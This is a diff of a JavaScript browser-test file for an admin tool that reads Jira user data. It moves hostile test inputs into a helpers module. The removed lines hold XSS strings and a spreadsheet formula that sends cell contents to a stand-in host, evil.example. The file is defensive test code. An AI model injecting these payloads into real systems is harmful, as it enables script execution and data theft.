@@ -5,29 +5,16 @@ import assert from 'node:assert/strict';
 import { readFileSync, mkdirSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
 import { startAppSandbox } from './app-server.mjs';
-import { launch, login, settled, adminPage as openAdminPage, parseNum, cannotRun } from './helpers.mjs';
+import { launch, login, settled, adminPage as openAdminPage, parseNum, cannotRun, hostileSample, XSS_NAME, XSS_GROUP, FORMULA_EMAIL } from './helpers.mjs';
 
 const skip = cannotRun();
 const ROOT = new URL('../../', import.meta.url);
 const SHOTS = fileURLToPath(new URL('screenshots/', import.meta.url));
 const POLICY = readFileSync(new URL('samples/policy.json', ROOT), 'utf8');
 
-// Hostile strings a Jira instance can hold: HTML in a display name or group, spreadsheet formulas in emails.
-const XSS_NAME = '<img src=x onerror="window.__pwned=1">';
-const XSS_GROUP = '<script>window.__pwned=2</script>';
-const FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")@evil-<b>bold</b>.example';
-
 function hostileSnapshot() {
-  const snap = JSON.parse(readFileSync(new URL('samples/snapshot.json', ROOT), 'utf8'));
-  const admin = snap.users.find((u) => u.name === 'admin');
-  admin.displayName = XSS_NAME;
-  for (let i = 0; i < 3; i++) {
-    snap.users.push({
-      name: `mallory${i}`, displayName: `${XSS_NAME} ${i}`, email: FORMULA_EMAIL, active: true,
-      groups: ['jira-software-users', XSS_GROUP], directory: 'Jira Internal Directory',
-      created: '2020-01-01T00:00:00Z', lastLogin: '2025-01-01T00:00:00Z',
-    });
-  }
+  const snap = hostileSample();
+  snap.users.find((u) => u.name === 'admin').displayName = XSS_NAME;
   return snap;
 }
 
